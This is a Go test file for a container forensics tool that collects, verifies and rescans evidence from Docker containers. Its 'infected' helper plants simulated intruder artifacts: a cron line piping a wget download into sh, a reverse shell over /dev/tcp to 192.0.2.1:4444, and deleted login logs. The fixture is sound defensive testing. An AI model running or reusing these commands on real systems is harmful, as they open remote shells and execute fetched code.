package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/rummage-scanner/rummage/evidence"
	"github.com/rummage-scanner/rummage/report"
	"github.com/rummage-scanner/rummage/testdata/lab"
)

// collected makes a case and returns its directory and manifest.
func collected(t *testing.T, want int, args ...string) (string, *evidence.Manifest) {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "case")
	status, stdout, stderr := rummage(t.Context(), append([]string{"collect", "-o", dir}, args...)...)
	if status != want {
		t.Fatalf("status %d: %s%s", status, stdout, stderr)
	}
	m, err := evidence.Read(dir)
	if err != nil {
		t.Fatal(err)
	}
	return dir, m
}

// infected is a container with a little of what an intruder leaves.
func infected(t *testing.T) string {
	t.Helper()
	name := lab.Run(t, "--tmpfs", "/scratch", lab.Debian, "sh", "-c", "echo to stdout; echo to stderr >&2; printf 'without an end'; exec sleep 1000")
	lab.Shell(t, name, `
		rm /var/log/lastlog /var/log/faillog
		echo 'import time; time.sleep(1000)' >/root/Datastealer.py
		echo '* * * * * root wget -q -O- http://192.0.2.1/x | sh' >/etc/cron.d/update
		printf '#!/bin/sh\nexec 3<>/dev/tcp/192.0.2.1/4444; sh <&3 >&3 2>&3\n' >/tmp/back; ln /tmp/back /tmp/again
		cp /bin/sleep /usr/local/bin/rogue; cp /bin/sleep /scratch/rogue
	`)
	lab.Docker(t, "exec", "-d", name, "/usr/local/bin/rogue", "1000")
	time.Sleep(300 * time.Millisecond)
	return name
}

// TestCollect has what stock tools make of a case.
func TestCollect(t *testing.T) {
	name := infected(t)
	dir, m := collected(t, statusOK, name, "--memory", "--operator", "A. Smith", "--case-id", "INC-17", "--note", "a test")
	for file, args := range map[string][]string{
		"inspect.json": {"inspect", name},
		"diff.txt":     {"diff", name},
		"image.json":   {"image", "inspect", lab.Debian},
	} {
		want, err := exec.Command("docker", args...).Output()
		if err != nil {
			t.Fatal(err)
		}
		// The engine has no order for changes.
		if got := read(t, dir, file); !bytes.Equal(got, want) && (file != "diff.txt" || !sameLines(got, want)) {
			t.Errorf("%s is not what docker %s prints:\n%s\n%s", file, args[0], got, want)
		}
	}
	logs, err := exec.Command("docker", "logs", name).CombinedOutput()
	if got := read(t, dir, "logs.txt"); err != nil || !sameLines(got, logs) {
		t.Errorf("logs.txt: %v\n%q\n%q", err, got, logs)
	}
	top := strings.SplitN(lab.Docker(t, "top", name), "\n", 2)[0]
	if got := read(t, dir, "top.txt"); !bytes.HasPrefix(got, []byte(top)) || !bytes.Contains(got, []byte("/usr/local/bin/rogue 1000")) {
		t.Errorf("top.txt: %s", got)
	}
	for _, command := range [][]string{
		{"sha256sum", "--strict", "--quiet", "-c", "SHA256SUMS"},
		{"tar", "-tf", "rootfs.tar"},
		{"sh", "-c", "jq . *.json *.jsonl"},
		{"sh", "-c", "zstd -dc logs.jsonl.zst | jq -e .text"},
		{"sh", "-c", "docker image rm $(docker import rootfs.tar)"},
	} {
		cmd := exec.Command(command[0], command[1:]...)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Errorf("%v: %v\n%s", command, err, out[:min(len(out), 1000)])
		}
	}
	if m.CaseID != "INC-17" || m.Operator != "A. Smith" || m.Notes[0] != "a test" || m.Container.Before.Status != "running" || m.Image.ID == "" || len(m.Missing) != 0 {
		t.Errorf("%+v", m)
	}
	for file, has := range map[string]string{"tmpfs.tar": "scratch/rogue", "proc/*/exe": "ELF", "proc/*/maps": "/usr/local/bin/rogue", "proc/*/fd.txt": "0 -> ", "proc/*/net/tcp": "local_address", "proc/*/mem.bin": "/usr/local/bin/rogue", "proc/*/mem.jsonl": "[stack]"} {
		found := false
		for _, path := range globbed(t, dir, file) {
			text, err := os.ReadFile(path)
			found = found || err == nil && bytes.Contains(text, []byte(has))
		}
		if !found {
			t.Errorf("%s does not have %q", file, has)
		}
	}
	if status, stdout, _ := rummage(t.Context(), "verify", dir); status != statusOK || !strings.Contains(stdout, "unaltered") {
		t.Errorf("status %d: %s", status, stdout)
	}
	if status, stdout, _ := rummage(t.Context(), "case", "show", dir); status != statusOK || !strings.Contains(stdout, "A. Smith") {
		t.Errorf("status %d: %s", status, stdout)
	}
	status, _, stderr := rummage(t.Context(), "collect", name, "-o", dir)
	if status != statusError || !strings.Contains(stderr, "already") {
		t.Errorf("over another case: status %d: %s", status, stderr)
	}
}

func read(t *testing.T, dir, name string) []byte {
	t.Helper()
	text, err := os.ReadFile(filepath.Join(dir, name))
	if err != nil {
		t.Fatal(err)
	}
	return text
}

// sameLines compares two logs: the docker command mixes the streams as they come.
func sameLines(a, b []byte) bool {
	sorted := func(text []byte) string {
		lines := strings.Fields(string(text))
		slices.Sort(lines)
		return strings.Join(lines, " ")
	}
	return sorted(a) == sorted(b)
}

// TestCase finds in a case what was found live.
func TestCase(t *testing.T) {
	name := infected(t)
	live, _ := scanned(t, name)
	for _, args := range [][]string{{}, {"--compress"}} {
		dir, _ := collected(t, statusOK, append(args, name)...)
		lab.Docker(t, "exec", name, "true")
		again, status := scanned(t, "case:"+dir)
		if status != statusOK || again.Targets[0].Verdict != report.Compromised {
			t.Errorf("status %d: %s", status, again.Targets[0].Verdict)
		}
		if a, b := fingerprints(live), fingerprints(again); a != b {
			t.Errorf("live:\n%s\nof the case:\n%s", a, b)
		}
		var kept report.Report
		if err := json.Unmarshal(read(t, dir, "findings.json"), &kept); err != nil {
			t.Fatal(err)
		}
		if a, b := fingerprints(live), fingerprints(&kept); a != b {
			t.Errorf("live:\n%s\nin findings.json:\n%s", a, b)
		}
	}
	// A rule of today that there was not then.
	rule := filepath.Join(t.TempDir(), "new.yar")
	if err := os.WriteFile(rule, []byte(`rule new { strings: $a = "time.sleep(1000)" condition: $a }`), 0o600); err != nil {
		t.Fatal(err)
	}
	dir, _ := collected(t, statusOK, name)
	status, stdout, stderr := rummage(t.Context(), "document", "--yara", rule, "case:"+dir)
	if status != statusOK || !strings.Contains(stdout, `"rule": "new"`) {
		t.Errorf("status %d: the new rule found nothing: %s", status, stderr)
	}
}

// TestCommit makes an image, which docker load takes.
func TestCommit(t *testing.T) {
	name := lab.Run(t, lab.Busybox, "sleep", "1000")
	lab.Shell(t, name, "echo a >/a")
	image := "rummage-lab/evidence-" + name + ":17"
	t.Cleanup(func() { _ = exec.Command("docker", "image", "rm", "-f", image).Run() })
	dir, m := collected(t, statusOK, name, "--pause", "--commit="+image, "--message", "INC-17", "--save", "--case-id", "INC-17")
	if m.Committed == nil || m.Committed.ID != lab.Docker(t, "image", "inspect", "-f", "{{.Id}}", image) {
		t.Errorf("%+v", m.Committed)
	}
	if label := lab.Docker(t, "image", "inspect", "-f", `{{index .Config.Labels "io.rummage.case-id"}} {{.Comment}}`, image); label != "INC-17 INC-17" {
		t.Error(label)
	}
	lab.Docker(t, "image", "rm", image)
	lab.Docker(t, "load", "-i", filepath.Join(dir, "image.tar"))
	if state := lab.Docker(t, "inspect", "-f", "{{.State.Status}}", name); state != "running" || m.Container.Before.Status != "running" {
		t.Error(state)
	}
	if does := actions(m); !strings.Contains(does, "docker pause") || !strings.Contains(does, "docker unpause") {
		t.Error(does)
	}
}

func actions(m *evidence.Manifest) string {
	var all []string
	for _, a := range m.Actions {
		all = append(all, a.Does)
	}
	return strings.Join(all, "\n")
}

// TestThaw ends a collection while the container is frozen.
func TestThaw(t *testing.T) {
	name := lab.Run(t, lab.Debian, "sleep", "1000")
	dir := filepath.Join(t.TempDir(), "case")
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	go func() {
		for range 400 {
			if _, err := os.Stat(filepath.Join(dir+evidence.Partial, evidence.RootFSName)); err == nil {
				break
			}
			time.Sleep(5 * time.Millisecond)
		}
		cancel()
	}()
	status, stdout, stderr := rummage(ctx, "collect", name, "--pause", "-o", dir)
	if status != statusInterrupted {
		t.Errorf("status %d: %s%s", status, stdout, stderr)
	}
	if state := lab.Docker(t, "inspect", "-f", "{{.State.Status}}", name); state != "running" {
		t.Errorf("it was left %s", state)
	}
	m, err := evidence.Read(dir)
	if err != nil || len(m.Missing) == 0 {
		t.Errorf("%v %+v", err, m)
	}
	if status, stdout, _ := rummage(t.Context(), "verify", dir); status != statusOK || !strings.Contains(stdout, "lacking  rootfs.tar") {
		t.Errorf("status %d: %s", status, stdout)
	}
}

// TestKilled ends a collection as nothing can prepare for.
func TestKilled(t *testing.T) {
	name := lab.Run(t, lab.Debian, "sleep", "1000")
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	command := filepath.Join(t.TempDir(), "rummage")
	if err := os.Symlink(self, command); err != nil {
		t.Fatal(err)
	}
	for _, after := range []time.Duration{300, 600, 900} {
		dir := filepath.Join(t.TempDir(), "case")
		cmd := exec.Command(command, "collect", name, "--pause", "-o", dir)
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		time.Sleep(after * time.Millisecond)
		_ = cmd.Process.Signal(syscall.SIGKILL)
		_ = cmd.Wait()
		lab.Await(t, name, "running") // it is thawed all the same
		if _, err := os.Stat(dir); err == nil {
			t.Skip("the collection was quicker than its end")
		}
		if _, err := os.Stat(dir + evidence.Partial); err != nil {
			continue // it had not begun
		}
		status, stdout, stderr := rummage(t.Context(), "verify", dir+evidence.Partial)
		if status != statusError || stdout != "" || !strings.Contains(stderr, "incomplete") {
			t.Errorf("after %v ms: status %d: %s%s", int(after), status, stdout, stderr)
		}
		resumed(t, name, dir)
	}
}

// resumed finishes a collection, when the container is still there and when the
// engine is not.
func resumed(t *testing.T, name, dir string) {
	t.Helper()
	again := dir + "-again" + evidence.Partial
	if err := os.CopyFS(again, os.DirFS(dir+evidence.Partial)); err != nil {
		t.Fatal(err)
	}
	status, stdout, stderr := rummage(t.Context(), "collect", "--resume", dir)
	if status != statusOK {
		t.Errorf("resumed: status %d: %s%s", status, stdout, stderr)
	}
	m, err := evidence.Read(dir)
	if err != nil || m.Container.Name != name || len(m.Missing) != 0 {
		t.Errorf("%v %+v", err, m)
	}
	status, stdout, stderr = rummage(t.Context(), "collect", "--resume", again, "-H", "unix:///nonexistent.sock")
	if status != statusIncomplete || !strings.Contains(stdout, "missing: what had not been secured") {
		t.Errorf("resumed without an engine: status %d: %s%s", status, stdout, stderr)
	}
	for _, c := range []string{dir, strings.TrimSuffix(again, evidence.Partial)} {
		if status, stdout, stderr := rummage(t.Context(), "verify", c); status != statusOK {
			t.Errorf("status %d: %s%s", status, stdout, stderr)
		}
	}
}

// TestCollectStates has containers that do not run, and several at once.
func TestCollectStates(t *testing.T) {
	created := lab.Create(t, "-v", "/data", lab.Busybox, "true")
	exited := lab.Run(t, lab.Busybox, "echo", "done")
	lab.Await(t, exited, "exited")
	dir := filepath.Join(t.TempDir(), "cases")
	status, stdout, stderr := rummage(t.Context(), "collect", created, exited, "--volumes", "--pause", "-o", dir)
	if status != statusOK {
		t.Fatalf("status %d: %s%s", status, stdout, stderr)
	}
	cases, err := filepath.Glob(filepath.Join(dir, "rummage-test-*"))
	if err != nil || len(cases) != 2 {
		t.Fatalf("%v %v", cases, err)
	}
	for _, c := range cases {
		if status, stdout, _ := rummage(t.Context(), "verify", c); status != statusOK {
			t.Errorf("status %d: %s", status, stdout)
		}
		m, err := evidence.Read(c)
		if err != nil || m.Container.Name == created && len(globbed(t, c, "volumes/*.tar")) != 1 {
			t.Errorf("%v %+v", err, m)
		}
		if _, err := os.Stat(filepath.Join(c, "top.txt")); err == nil {
			t.Error("a container without processes has a list of them")
		}
	}
	if status, _, stderr := rummage(t.Context(), "collect", "no-such-container", "-o", dir+"2"); status != statusError || !strings.Contains(stderr, "no-such-container") {
		t.Errorf("status %d: %s", status, stderr)
	}
}

func globbed(t *testing.T, dir, pattern string) []string {
	t.Helper()
	found, err := filepath.Glob(filepath.Join(dir, pattern))
	if err != nil {
		t.Fatal(err)
	}
	return found
}

// TestCollectDead makes a case from the data root, as if the engine were dead.
func TestCollectDead(t *testing.T) {
	name := infected(t)
	lab.Docker(t, "stop", "-t", "0", name)
	target := "docker-root:" + lab.Docker(t, "info", "-f", "{{.DockerRootDir}}") + "#" + name
	dir, m := collected(t, statusOK, target)
	if m.Container.Name != name || m.Container.Before.Status != "exited" || m.Image.ID == "" {
		t.Errorf("%+v", m.Container)
	}
	if status, stdout, _ := rummage(t.Context(), "verify", dir); status != statusOK {
		t.Errorf("status %d: %s", status, stdout)
	}
	there, _ := scanned(t, target)
	again, _ := scanned(t, "case:"+dir)
	if a, b := fingerprints(there), fingerprints(again); a != b || len(find(again, "files/login-records-deleted")) == 0 {
		t.Errorf("in the data root:\n%s\nof the case:\n%s", a, b)
	}
	if diff := lab.Docker(t, "diff", name); !sameLines([]byte(diff), read(t, dir, "diff.txt")) {
		t.Errorf("%s\n%s", diff, read(t, dir, "diff.txt"))
	}
	listed := func(archive string) string {
		out, err := exec.Command("sh", "-c", "tar --numeric-owner -tvf "+archive+" | sort -k 6").Output()
		if err != nil {
			t.Fatal(err)
		}
		return string(out)
	}
	exported := filepath.Join(t.TempDir(), "exported.tar")
	lab.Docker(t, "export", "-o", exported, name)
	ours := filepath.Join(dir, evidence.RootFSName)
	if diff := cmp.Diff(listed(exported), listed(ours)); diff != "" {
		t.Errorf("docker export and the case differ:\n%.3000s", diff)
	}
	image := strings.TrimPrefix(lab.Docker(t, "import", ours), "sha256:")
	t.Cleanup(func() { lab.Docker(t, "rmi", image) })
	inspected := read(t, dir, "inspect.json")
	var answers []struct {
		ID, Name   string
		State      struct{ Status string }
		HostConfig struct{ LogConfig struct{ Type string } }
	}
	if err := json.Unmarshal(inspected, &answers); err != nil || len(answers) != 1 || answers[0].ID != m.Container.ID || answers[0].HostConfig.LogConfig.Type == "" {
		t.Errorf("%v\n%s", err, inspected)
	}
	// Nothing runs: these have no meaning.
	for _, args := range [][]string{{"--pause"}, {"--memory"}, {"--commit"}} {
		if status, _, stderr := rummage(t.Context(), append([]string{"collect", target, "-o", dir + "2"}, args...)...); status != statusError {
			t.Errorf("%v: status %d: %s", args, status, stderr)
		}
	}
}

// TestCollectDeadLayer makes a case of a container without its image's layers, and
// with a volume.
func TestCollectDeadLayer(t *testing.T) {
	t.Cleanup(func() { lab.Docker(t, "volume", "rm", "-f", "rummage-test-dead") })
	name := lab.Run(t, "-v", "rummage-test-dead:/data", lab.Debian, "sh", "-c", "echo kept >/data/file; echo x >/root/x; rm /var/log/lastlog; exec sleep 1000")
	time.Sleep(300 * time.Millisecond)
	lab.Docker(t, "stop", "-t", "0", name)
	root, copied := lab.Docker(t, "info", "-f", "{{.DockerRootDir}}"), t.TempDir()
	id := lab.Docker(t, "inspect", "-f", "{{.Id}}", name)
	shell(t, root, `mount=$(cat image/overlay2/layerdb/mounts/`+id+`/mount-id)
		cp -a --parents containers/`+id+` image/overlay2/layerdb/mounts/`+id+` "overlay2/$mount/diff" "overlay2/$mount/link" "overlay2/$mount/lower" volumes/rummage-test-dead `+copied)
	target := "docker-root:" + copied + "#" + name
	dir, m := collected(t, statusIncomplete, target, "--volumes")
	if out, err := exec.Command("tar", "-tf", filepath.Join(dir, evidence.LayerName)).Output(); err != nil || !bytes.Contains(out, []byte("root/x")) {
		t.Errorf("%v %s", err, out)
	}
	if out, err := exec.Command("tar", "-xOf", filepath.Join(dir, "volumes/rummage-test-dead.tar"), "file").Output(); err != nil || string(out) != "kept\n" {
		t.Errorf("%v %q", err, out)
	}
	if len(m.Missing) == 0 || m.Missing[0].What != evidence.RootFSName {
		t.Errorf("%+v", m.Missing)
	}
}
